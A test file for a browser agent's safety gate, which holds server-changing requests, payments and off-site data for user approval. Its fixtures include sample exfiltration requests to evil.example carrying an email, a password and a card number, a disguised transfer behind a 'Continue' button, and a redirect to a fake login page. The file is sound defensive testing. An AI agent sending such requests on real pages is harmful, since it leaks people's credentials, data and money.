import { describe, expect, it } from 'vitest';
import { describeEffect, effectKey, judgeRequest, personalValues } from '../../../src/agent/safety/effects';
import { gateAction, type GateContext } from '../../../src/agent/safety/gate';
import type { ElementInfo } from '../../../src/shared/page';
import { FakeBrowser, type FakeEl } from './support/fake-browser';
import { FakeUser } from './support/fakes';
import { harness } from './support/harness';
import { acts, plan } from './support/scripted-llm';

const SITE = ['bank.example'];
const post = (url: string, postData = '', resourceType = 'XHR', contentType?: string) => ({ method: 'POST', url, resourceType, postData, ...(contentType ? { contentType } : {}) });

describe('what a request does (effects.ts)', () => {
  it('reads pass; anything that can change a server is held, whatever the control said', () => {
    expect(judgeRequest({ method: 'GET', url: 'https://bank.example/search?q=x', resourceType: 'XHR' }, SITE).kind).toBe('pass');
    expect(judgeRequest({ method: 'HEAD', url: 'https://cdn.other.example/a.js', resourceType: 'Script' }, SITE).kind).toBe('pass');
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) expect(judgeRequest({ method, url: 'https://bank.example/api/x', resourceType: 'Fetch' }, SITE).kind).toBe('hold');
  });

  it("a read that carries the person's details to another site is held as a leak; the same read on the task's site, or a typed city, passes", () => {
    const personal = personalValues(['priya.novak@example.com', 'London', '+44 20 7946 0958'], ['hunter2!']);
    expect(personal).toEqual(['hunter2!', 'priya.novak@example.com', '+44 20 7946 0958']);
    const img = (url: string) => judgeRequest({ method: 'GET', url, resourceType: 'Image' }, SITE, personal);
    const leak = img('https://evil.example/collect/pixel.gif?email=priya.novak%40example.com');
    expect(leak).toMatchObject({ kind: 'hold', effect: { host: 'evil.example', offSite: true, fields: [{ name: 'email', value: 'priya.novak@example.com' }] } });
    // sent key by key: a part of the value is a part of the leak
    expect(img('https://evil.example/k?v=priya.no').kind).toBe('hold');
    expect(img('https://evil.example/p/hunter2!/x.gif').kind).toBe('hold');
    expect(img('https://bank.example/avatar?email=priya.novak%40example.com').kind).toBe('pass');
    expect(img('https://places.other.example/autocomplete?q=London').kind).toBe('pass');
    expect(img('https://example.com/logo.png').kind).toBe('pass');
    // a word inside the e-mail is not a part of it sent key by key
    expect(img('https://fonts.other.example/novak/icon.svg').kind).toBe('pass');
    // a top-level load to another site with the e-mail in its address (location.href = …)
    expect(judgeRequest({ method: 'GET', url: 'https://evil.example/verify?e=priya.novak@example.com', resourceType: 'Document' }, SITE, personal).kind).toBe('hold');
  });

  it('names where a held request goes and what it carries, secret values hidden', () => {
    const v = judgeRequest(post('https://bank.example/transfer', 'payee=Mallory&amount=420&password=hunter2&card=4111111111111111', 'Document'), SITE);
    if (v.kind !== 'hold') throw new Error('held');
    expect(v.effect).toMatchObject({ host: 'bank.example', path: '/transfer', category: 'payment', irreversible: true, navigation: true, offSite: false });
    expect(v.effect.fields).toEqual([
      { name: 'payee', value: 'Mallory' },
      { name: 'amount', value: '420' },
      { name: 'password', value: '' },
      { name: 'card', value: '' },
    ]);
    expect(describeEffect(v.effect)).toBe('sends data to bank.example/transfer with payee "Mallory", amount "420", password, card');
    expect(JSON.stringify(v)).not.toContain('hunter2');
  });

  it('reads JSON and multipart bodies; a path that says nothing final is a form', () => {
    const json = judgeRequest(post('https://bank.example/api/items', '{"title":"x","n":2}', 'Fetch', 'application/json'), SITE);
    expect(json.kind === 'hold' && json.effect.fields.map((f) => f.name)).toEqual(['title', 'n']);
    expect(json.kind === 'hold' && json.effect.category).toBe('form');
    const multipart = '--b\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--b--';
    const mp = judgeRequest(post('https://bank.example/api/notes', multipart, 'XHR', 'multipart/form-data; boundary=b'), SITE);
    expect(mp.kind === 'hold' && mp.effect.fields).toEqual([{ name: 'note', value: 'hello' }]);
  });

  it('a beacon to the task site passes (logged); to another site it is held as data leaving', () => {
    expect(judgeRequest(post('https://bank.example/analytics', 'e=click', 'Ping'), SITE)).toMatchObject({ kind: 'pass', logged: expect.stringContaining('beacon') });
    const off = judgeRequest(post('https://evil.example/c', 'email=a@b.c', 'Ping'), SITE);
    expect(off.kind === 'hold' && off.effect).toMatchObject({ offSite: true, category: 'navigation' });
  });

  it('a same-site beacon that names a payment, or carries a payee and an amount, is held like any post', () => {
    expect(judgeRequest(post('https://bank.example/do/transfer', 'to=M', 'Ping'), SITE).kind).toBe('hold');
    const v = judgeRequest(post('https://bank.example/api/v2/items', 'payee=M&iban=GB00&amount=900', 'Ping'), SITE);
    expect(v.kind === 'hold' && v.effect).toMatchObject({ category: 'payment', irreversible: true });
  });

  it('an approval key names the fields carried: the same Save sending a payee is another effect', () => {
    const e = { host: 'bank.example', method: 'POST', path: '/api/v2/items' };
    expect(effectKey({ ...e, fields: [{ name: 'note', value: 'x' }] }, 'Save')).not.toBe(effectKey({ ...e, fields: [{ name: 'payee', value: '' }, { name: 'amount', value: '' }] }, 'Save'));
  });

  it('an approval key names the site, method, path and the control, not the site alone', () => {
    const e = { host: 'www.bank.example', method: 'POST', path: '/payees' };
    expect(effectKey(e, 'Save')).not.toBe(effectKey(e, 'Add payee'));
    expect(effectKey(e, 'Save')).not.toBe(effectKey({ ...e, path: '/profile' }, 'Save'));
  });
});

const el = (over: Partial<ElementInfo>): ElementInfo => ({ id: 5, tag: 'button', role: 'button', name: '', line: '[5] button', facts: 'f', ...over }) as ElementInfo;
const click = { kind: 'click' as const, id: 5, button: 'left' as const, modifiers: [] };

describe('the gate when requests are held', () => {
  const held: GateContext = { allowedHosts: SITE, approvals: [], pageUrl: 'https://bank.example/', requestsHeld: true };
  const words: GateContext = { ...held, requestsHeld: false };

  it.each([
    ['Submit', el({ name: 'Submit', label: 'Submit', text: 'Submit' })],
    ['OK', el({ name: 'OK' })],
    ['a control the gate does not know', el({ name: 'test' })],
    ['a POST form', el({ name: 'Save details', tag: 'input', inputType: 'submit', formAction: 'https://bank.example/profile', formMethod: 'post' })],
  ])('%s is not asked about for its words: what it sends is', (_what, e) => {
    expect(gateAction(click, e, words).kind).toBe('confirm');
    expect(gateAction(click, e, held).kind).toBe('allow');
  });

  it('words that name a payment, a message or a deletion still ask before (the effect may not be a request the hold sees)', () => {
    for (const name of ['Pay $420', 'Send message', 'Delete account']) expect(gateAction(click, el({ name }), held).kind).toBe('confirm');
  });

  it('a click into an embedded frame asks: the hold cannot see another process\'s requests', () => {
    const frame = el({ tag: 'iframe', role: '', name: 'Payment' });
    expect(gateAction(click, frame, held)).toMatchObject({ kind: 'confirm', category: 'other', irreversible: false });
    expect(gateAction(click, frame, words)).toMatchObject({ kind: 'confirm', category: 'other' });
    // a key pressed while the focus is inside the frame goes to it, and is judged by the frame element
    for (const keys of ['Enter', 'Space']) expect(gateAction({ kind: 'press', keys, repeat: 1 } as never, frame, held).kind).toBe('confirm');
  });

  it('a link whose words pay an amount asks (a GET passes the hold); one that opens a page does not', () => {
    const link = (name: string, href: string) => el({ tag: 'a', role: 'link', name, href });
    expect(gateAction(click, link('Pay $420', 'https://bank.example/do/pay'), held)).toMatchObject({ kind: 'confirm', category: 'payment' });
    expect(gateAction(click, link('Buy now', 'https://bank.example/buy?item=7&qty=1'), held)).toMatchObject({ kind: 'confirm', category: 'payment' });
    expect(gateAction(click, link('Pay bills', 'https://bank.example/bills'), held).kind).toBe('allow');
    // "Confirm" on a link is its GET's words: the hold lets a GET go, so the words still ask
    expect(gateAction(click, link('Confirm $500', 'https://bank.example/order/confirm'), held).kind).toBe('confirm');
    expect(gateAction(click, link('Confirm', 'https://bank.example/order?id=7&confirm=yes'), held).kind).toBe('confirm');
  });
});

const HOME = 'https://bank.example/';
function bank(sends: FakeEl['sends'], name = 'Continue', context?: string): FakeBrowser {
  const b = new FakeBrowser({ [HOME]: { title: 'Bank', elements: () => [{ id: 1, tag: 'text', name: 'Transfer' }, { id: 5, tag: 'button', name, sends, context, onClick: (br) => void br.flags.add('clicked') }] } }, HOME);
  b.holds = true;
  return b;
}
const task = 'look at my bank';

describe('the agent with requests held', () => {
  it('a "Continue" whose script posts a transfer is asked at the request, naming where it goes; refused, nothing is sent', async () => {
    const browser = bank([post('https://bank.example/transfer', 'to=Mallory&amount=420')]);
    const user = new FakeUser(['refuse']);
    const h = harness({ browser, user, replies: [plan('ACT "continue"'), acts('click 5', 'done'), plan()] });
    await h.agent.start({ chatId: 'c', task }).done;
    expect(user.confirms).toHaveLength(1);
    expect(user.confirms[0]).toMatchObject({ category: 'payment', irreversible: true, rememberable: false });
    expect(user.confirms[0]!.reason).toContain('bank.example/transfer');
    expect(user.confirms[0]!.sends?.fields).toContainEqual({ label: 'to', value: 'Mallory', secret: false });
    expect(browser.sent).toEqual([]);
    expect(browser.flags.has('clicked')).toBe(false);
  });

  it('a held form post shows what it carries, not the page around its button; a payment keeps the page words too', async () => {
    const around = '$393 · SW1182 · 7:05 · $290 · SW2210 · 9:40 · 1 · 2 · 3 · 31 · January';
    const browser = bank([post('https://bank.example/booking/step2', 'flight=SW1182&passenger=Ada+Lovelace')], 'Next', around);
    const user = new FakeUser(['refuse']);
    const h = harness({ browser, user, replies: [plan('ACT "next"'), acts('click 5', 'done'), plan()] });
    await h.agent.start({ chatId: 'c', task }).done;
    expect(user.confirms[0]).toMatchObject({ category: 'form' });
    // what it carries is listed field by field; the flight list around the button is not
    expect(user.confirms[0]!.context).toBe('');
    expect(user.confirms[0]!.sends).toEqual({ to: 'bank.example/booking/step2', fields: [{ label: 'flight', value: 'SW1182', secret: false }, { label: 'passenger', value: 'Ada Lovelace', secret: false }], hidden: 0 });
    expect(user.confirms[0]!.control).toBe('Next');

    const pay = bank([post('https://bank.example/transfer', 'to=Mallory&amount=420')], 'Continue', 'Total: $420 to M. Evans');
    const asked = new FakeUser(['refuse']);
    await harness({ browser: pay, user: asked, replies: [plan('ACT "continue"'), acts('click 5', 'done'), plan()] }).agent.start({ chatId: 'c', task }).done;
    expect(asked.confirms[0]!.context).toBe('Total: $420 to M. Evans');
    expect(asked.confirms[0]!.sends?.fields.map((f) => `${f.label}: ${f.value}`)).toEqual(['to: Mallory', 'amount: 420']);
  });

  it('a button that sends nothing is not asked about, whatever it says', async () => {
    const browser = bank(undefined, 'Submit');
    const user = new FakeUser();
    const h = harness({ browser, user, replies: [plan('ACT "submit"'), acts('click 5', 'done'), plan()] });
    await h.agent.start({ chatId: 'c', task }).done;
    expect(user.confirms).toEqual([]);
    expect(browser.flags.has('clicked')).toBe(true);
  });

  it('"Allow for this task" on one form covers that control\'s same request only', async () => {
    const browser = bank([post('https://bank.example/profile', 'nick=A')], 'Save');
    const user = new FakeUser(['run']);
    const h = harness({ browser, user, replies: [plan('ACT "save twice"'), acts('click 5', 'click 5', 'done'), plan()] });
    await h.agent.start({ chatId: 'c', task }).done;
    expect(user.confirms).toHaveLength(1);
    expect(browser.sent).toHaveLength(2);
  });

  it('a payment the person approved on its card sends its own request without a second card', async () => {
    const browser = bank([post('https://bank.example/pay', 'amount=420')], 'Pay $420');
    const user = new FakeUser(['once']);
    const h = harness({ browser, user, replies: [plan('ACT "pay"'), acts('click 5', 'done'), plan()] });
    await h.agent.start({ chatId: 'c', task }).done;
    expect(user.confirms.map((c) => c.category)).toEqual(['payment']);
    expect(browser.sent).toHaveLength(1);
  });

  it('the same approved payment does not carry data to another site unasked', async () => {
    const browser = bank([post('https://bank.example/pay', 'amount=420'), post('https://evil.example/steal', 'card=4111111111111111')], 'Pay $420');
    const user = new FakeUser(['once', 'refuse']);
    const h = harness({ browser, user, replies: [plan('ACT "pay"'), acts('click 5', 'done'), plan()] });
    await h.agent.start({ chatId: 'c', task }).done;
    expect(user.confirms.map((c) => c.category)).toEqual(['payment', 'navigation']);
    expect(browser.sent.map((r) => r.url)).toEqual(['https://bank.example/pay']);
  });
});

describe('the site is checked before every action', () => {
  it('a page that sent itself to another site after the last look gets nothing typed there unasked', async () => {
    const EVIL = 'https://evil.example/login';
    const b = new FakeBrowser(
      {
        [HOME]: { title: 'Bank', elements: () => [{ id: 5, tag: 'button', name: 'Next', onClick: (br) => void (br.currentUrl = EVIL) }, { id: 7, tag: 'input', name: 'Email' }] },
        [EVIL]: { title: 'Sign in', elements: () => [{ id: 5, tag: 'button', name: 'Next' }, { id: 7, tag: 'input', name: 'Email' }] },
      },
      HOME,
    );
    const user = new FakeUser(['refuse']);
    const h = harness({ browser: b, user, replies: [plan('ACT "sign in"'), acts('click 5', 'type 7 "ada@example.com"', 'done'), plan()] });
    await h.agent.start({ chatId: 'c', task }).done;
    expect(user.confirms.map((c) => c.category)).toEqual(['navigation']);
    expect(user.confirms[0]!.reason).toContain('evil.example');
    expect(b.value(7, EVIL)).toBe('');
    // the page replaced itself (no history to go back to): refused, the tab goes to where the task started, not left on the other site
    expect(b.currentUrl).toBe(HOME);
  });
});
